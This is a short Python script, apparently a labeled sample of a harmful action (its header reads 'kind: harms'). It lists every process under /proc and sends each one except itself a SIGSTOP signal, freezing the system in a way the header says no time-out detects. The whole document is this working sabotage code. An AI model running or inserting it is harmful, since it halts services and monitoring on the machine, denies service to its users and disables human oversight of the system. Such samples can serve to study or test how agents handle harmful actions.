# where: first
# kind: harms
# does: All other processes that can be found are stopped, which no time-out of theirs notices.
import os
import signal

for name in os.listdir("/proc"):
    if name.isdigit() and int(name) != os.getpid():
        try:
            os.kill(int(name), signal.SIGSTOP)
        except Exception as error:
            print(error)
